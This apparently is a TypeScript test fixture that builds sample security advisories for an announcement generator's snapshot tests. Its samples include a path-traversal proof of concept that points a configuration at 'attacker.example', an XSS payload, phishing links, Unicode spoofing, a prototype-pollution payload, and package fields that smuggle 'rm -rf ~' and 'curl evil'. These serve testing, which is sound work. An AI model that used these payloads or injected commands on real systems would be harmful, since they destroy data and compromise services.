import type { InspectedArtifacts } from '../../src/release/artifacts/inspected-artifacts.ts';
import type { Check } from '../../src/release/check.ts';
import type { AnnouncementFacts, MitigationFacts } from '../../src/documents/announcement/announcement.ts';
import type { AdvisoryText } from '../../src/github/advisory-text.ts';

const REPOSITORY = 'stacklok/codegate';
const GITHUB = 'https://github.com';
export const GHSA = 'GHSA-2q5h-3c6w-8fjm';
const FIX = `${GITHUB}/${REPOSITORY}/compare/v0.1.28...v0.1.29`;
const V31 = {
  version: '3.1',
  vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  score: 7.5,
} as const;
const V40 = {
  version: '4.0',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  score: 9.3,
} as const;

const ok: Check = { verdict: 'ok', what: 'as it should be' };

export function digest(letter: string): string {
  return `sha256:${letter.repeat(64)}`;
}

export function released(
  version: string,
  more: Partial<InspectedArtifacts> = {},
): AnnouncementFacts['releases'][number] {
  const tag = `v${version}`;
  const names = [`codegate-${version}.tar.gz`, `codegate-${version}-linux-arm64.tar.gz`];
  return {
    facts: {
      tag,
      url: `${GITHUB}/${REPOSITORY}/releases/tag/${tag}`,
      publishedAt: Temporal.Instant.from('2026-03-03T16:00:00Z'),
      commit: 'c'.repeat(40),
      onMain: true,
      assets: names.map((name) => ({
        name,
        digest: digest('a'),
        url: `${GITHUB}/${REPOSITORY}/releases/download/${tag}/${name}`,
        size: 1000,
      })),
    },
    artifacts: {
      assets: names.map((name, index) => ({
        name,
        digest: digest('ab'.charAt(index)),
        available: ok,
        digestMatches: ok,
        signed: ok,
      })),
      missingAssets: [],
      images: [
        {
          reference: `ghcr.io/${REPOSITORY}:${tag}`,
          digest: digest('d'),
          available: ok,
          platforms: [],
          digestMatches: ok,
          signed: ok,
        },
      ],
      ...more,
    },
  };
}

export function advisory(more: Partial<AdvisoryText> = {}): AdvisoryText {
  return {
    ghsaId: GHSA,
    state: 'published',
    publishedAt: Temporal.Instant.from('2026-03-03T16:05:00Z'),
    url: `${GITHUB}/${REPOSITORY}/security/advisories/${GHSA}`,
    cveId: 'CVE-2026-10001',
    summary: 'Path traversal in the workspace API lets anyone read files of the host',
    description: '',
    severity: 'high',
    cvss: V31,
    products: [{ ecosystem: 'pip', name: 'codegate', affected: '< 0.1.29', patched: '0.1.29' }],
    weaknesses: [{ id: 'CWE-22', name: 'Improper Limitation of a Pathname to a Restricted Directory' }],
    credits: [
      { login: 'rita-reports', type: 'reporter' },
      { login: 'finn-fixes', type: 'remediation_developer' },
    ],
    hasFork: false,
    ...more,
  };
}

export function facts(
  said: Partial<AdvisoryText> = {},
  more: Partial<AnnouncementFacts> = {},
): AnnouncementFacts {
  return {
    repository: REPOSITORY,
    githubUrl: GITHUB,
    advisory: advisory(said),
    releases: [released('0.1.29')],
    cve: 'assigned',
    exploited: 'no',
    signer: (tag) => ({
      issuer: 'https://token.actions.githubusercontent.com',
      identities: [`${GITHUB}/${REPOSITORY}/.github/workflows/image-publish.yml@refs/tags/${tag}`],
    }),
    fixes: [{ tag: 'v0.1.29', url: FIX }],
    fixUrl: FIX,
    ...more,
  };
}

export function mitigationFacts(description: string, more: Partial<MitigationFacts> = {}): MitigationFacts {
  const { products, severity } = advisory();
  return {
    repository: REPOSITORY,
    products,
    severity,
    exploited: 'no',
    description,
    releaseDay: Temporal.Instant.from('2026-03-03T16:00:00Z'),
    ...more,
  };
}

/** As GitHub's form suggests it. */
const ORDINARY = `### Impact
An attacker who can reach the API can read any file that CodeGate itself can read, such as the keys of its providers. No account is needed. Servers that listen on \`127.0.0.1\` only are exposed to web pages opened on the same machine.

### Patches
Version 0.1.29 refuses names of workspaces that leave the directory of workspaces.

### Workarounds
Let the API listen on a private interface, and refuse \`..\` in a proxy in front of it:

\`\`\`nginx
location /api/ {
  if ($request_uri ~* "%2e%2e|\\.\\.") { return 403; }
  proxy_pass http://127.0.0.1:8989;
}
\`\`\`

### References
- https://github.com/stacklok/codegate/pull/1201
`;

const paragraph = (index: number) =>
  `${index}. The handler joins the name of the workspace, which the client chooses, to the directory of workspaces (step ${index} of the chain) before it looks at either of them; see [the source](https://github.com/stacklok/codegate/blob/v0.1.28/src/api.py#L${index * 10}).`;
const LONG = `# Summary
A chain of 40 small mistakes lets a remote client replace the configuration of CodeGate, and from then on read all traffic between developers and their models.

## Impact
A remote attacker without an account can replace the configuration, read every prompt and every answer from then on, and take the secrets that CodeGate hides from the models.

## Details
${Array.from({ length: 40 }, (_, index) => paragraph(index + 1)).join('\n')}

## Proof of concept
\`\`\`python
import requests
requests.put("http://127.0.0.1:8989/api/v1/workspaces/..%2f..%2fconfig", json={"provider": "http://attacker.example"})
\`\`\`

## Mitigation
Until you can upgrade, do all of this:

${Array.from({ length: 14 }, (_, index) => `${index + 1}. Close the port ${9000 + index} in the firewall of every machine that runs CodeGate, also for its own network, and start CodeGate anew afterwards, so that connections which are open already are closed.`).join('\n')}

### How to see whether it was done
Run \`ss -ltn\` and look for the ports.

## Timeline
- 2026-01-12 reported
- 2026-03-03 published
`;

const HOSTILE = `## Impact
@everyone <@300000000000000001> <@&300000000000000002> <#300000000000000003> </advisory open:300000000000000004> <t:1:R> @here [https://github.com/stacklok/codegate](https://evil.example/phish) can **@every**one be hurt. ||spoiler|| <:pepe:300000000000000005>

# BIG HEADING
-# small
> quote
>>> more quote
![picture](https://evil.example/track.png)
<img src=x onerror=alert(1)> <b>bold</b> <!-- hidden @everyone -->
[click
here](https://evil.example) [safe][ref] https://github.com@evil.example/login
\u202Etxt.exe\u202C @\u200Beveryone \u2066reversed\u2069 Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307algo

## Workarounds
Put \`\`\`@everyone\`\`\` away, \`<@300000000000000001>\` too. {{identifier}} {{#more}} \`unclosed
- # heading in a list
- - > nested
* **Use \`--safe\`** and *nothing* else_where_
~~~~
\`\`\`
@everyone <@300000000000000001>
\`\`\`
~~~~
\`\`\`sh
never closed @everyone
`;

const TABLES = `### Impact

Anyone on the network can make CodeGate fetch any address (SSRF), e.g. \`http://169.254.169.254/\`. Cloud credentials are at risk.

| Version | Affected | Fixed in |
|---------|:--------:|----------|
| 0.1.x   | yes      | \`0.1.29\` |
| 0.0.x   | no       | -        |

### Workarounds

1. Stop the service:

   \`\`\`console
   $ docker stop codegate
   \`\`\`

2. Block the metadata address:

   \`\`\`bash
   # as root
   iptables -I OUTPUT -d 169.254.169.254 -j DROP
   \`\`\`

| Platform | Command |
| --- | --- |
| Linux | \`systemctl stop codegate\` |
| macOS | \`launchctl unload codegate\` |

> [!WARNING]
> The second step does not help on IPv6.
`;

const NO_HEADINGS = `When the proxy is started with \`--debug\`, it writes API keys into its log file, where every user of the machine can read them. Keys from before the upgrade should be made anew.

Thanks to the people who told us.`;

const EMOJI = `### 🛡️ 影響
認証されていない攻撃者が、任意のファイルを読み取ることができます。すべての設定が対象です。👩🏽‍💻🇩🇪

### 🛠️ Workarounds（回避策）
外部からのアクセスを遮断してください。 استخدم جدار الحماية 🔥 — Größe prüfen.
`;

const SHAPES_OF_GITHUB = `### Summary
_Short_ **prototype pollution** in \`merge()\` of the UI and of its server.

### Details
\`\`\`js
merge({}, JSON.parse('{"__proto__":{"admin":true}}'))
\`\`\`

### Impact
_What kind of vulnerability is it? Who is impacted?_
Prototype pollution: a logged-in user can become an administrator by importing a crafted workspace. All installations with more than one user are affected.

### Patches
_Has the problem been patched? What versions should users upgrade to?_
Yes, see above.

### Workarounds
_Is there a way for users to fix or remediate the vulnerability without upgrading?_
There are no known workarounds.
`;

/** Shapes of advisories as they are published, by the name of their snapshot. */
export const SHAPES: Readonly<Record<string, () => AnnouncementFacts>> = {
  ordinary: () => facts({ description: ORDINARY }),
  long: () => facts({ description: LONG, severity: 'critical', cvss: V40 }, { exploited: 'yes' }),
  'no-workaround': () =>
    facts({
      description:
        '### Impact\nA remote client can stop the proxy with one request.\n\n### Workarounds\nNone.\n',
    }),
  'several-packages': () =>
    facts(
      {
        description: SHAPES_OF_GITHUB,
        products: [
          {
            ecosystem: 'npm',
            name: '@stacklok/codegate-ui',
            affected: '>= 1.0.0, < 1.2.9',
            patched: '1.2.9',
          },
          {
            ecosystem: 'npm',
            name: '@stacklok/codegate-ui',
            affected: '>= 2.0.0, < 2.0.1',
            patched: '2.0.1',
          },
          { ecosystem: 'pip', name: 'codegate', affected: '< 0.1.29', patched: '0.1.29' },
          {
            ecosystem: 'go',
            name: 'github.com/stacklok/codegate-agent',
            affected: '< 1.4.0',
            patched: '1.4.0',
          },
          {
            ecosystem: 'maven',
            name: 'com.stacklok:codegate-client',
            affected: '<= 3.1.0',
            patched: '3.1.1',
          },
          { ecosystem: 'other', name: 'CodeGate for VS Code', affected: 'all', patched: undefined },
        ],
        credits: [
          { login: 'rita-reports', type: 'finder' },
          { login: 'rita-reports', type: 'reporter' },
          { login: 'fuzz-o-matic', type: 'tool' },
        ],
      },
      { releases: [released('0.1.29'), released('1.2.9', { images: [], assets: [] })] },
    ),
  'two-releases': () =>
    facts(
      {
        description: ORDINARY,
        products: [
          { ecosystem: 'pip', name: 'codegate', affected: '< 0.1.29', patched: '0.1.29' },
          { ecosystem: 'pip', name: 'codegate', affected: '>= 0.2.0, < 0.2.4', patched: '0.2.4' },
        ],
      },
      { releases: [released('0.2.4'), released('0.1.29')] },
    ),
  'versions-unknown': () =>
    facts(
      {
        description: '',
        products: [{ ecosystem: 'pip', name: 'codegate', affected: undefined, patched: undefined }],
      },
      { exploited: 'unknown', releases: [] },
    ),
  'no-cve': () =>
    facts({ description: ORDINARY, cveId: undefined }, { cve: 'pending', exploited: 'unknown' }),
  'cvss-4-only': () =>
    facts({
      description:
        '## Impact\nA local user can read the secrets of another one.\n## Mitigation\nRun one CodeGate per user.',
      cvss: { ...V40, vector: 'CVSS:4.0/AV:L/AC:L/AT:P/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N', score: 5.7 },
      severity: 'medium',
    }),
  hostile: () =>
    facts({
      description: HOSTILE,
      summary: '@everyone **free** [nitro](https://evil.example) </x:300000000000000001> \u202Egnp.exe # `x',
      products: [
        {
          ecosystem: 'npm',
          name: 'x; rm -rf ~ `id`',
          affected: '< 1.0 || @everyone',
          patched: '1.0; curl evil',
        },
      ],
      credits: [{ login: '@everyone', type: '<@300000000000000001>' }],
    }),
  'no-headings': () =>
    facts(
      { description: NO_HEADINGS, credits: [], cvss: undefined, severity: undefined, cveId: undefined },
      { cve: 'none' },
    ),
  'very-short': () =>
    facts(
      { description: '', summary: 'Denial of service', weaknesses: [], credits: [] },
      { releases: [], fixes: [], fixUrl: undefined },
    ),
  tables: () => facts({ description: TABLES }),
  'emoji-and-scripts': () =>
    facts({ description: EMOJI, summary: '任意ファイルの読み取り 🔓 (Dateizugriff über „Workspace“)' }),
};

/** The same for what may be told before the fix. */
export const MITIGATIONS: Readonly<Record<string, () => MitigationFacts>> = {
  ordinary: () => mitigationFacts(ORDINARY),
  long: () => mitigationFacts(LONG, { severity: undefined, releaseDay: undefined, exploited: 'yes' }),
  'ids-inside': () =>
    mitigationFacts(
      `### Impact\nSECRET.\n### Workarounds\nSee https://github.com/stacklok/codegate/security/advisories/${GHSA} and CVE-2026-10001.\n\`\`\`sh\n./fix-${GHSA}.sh # CVE-2026-10001\n\`\`\`\nScore CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N. Close port 8989.\n### Details\nSECRET.`,
    ),
};
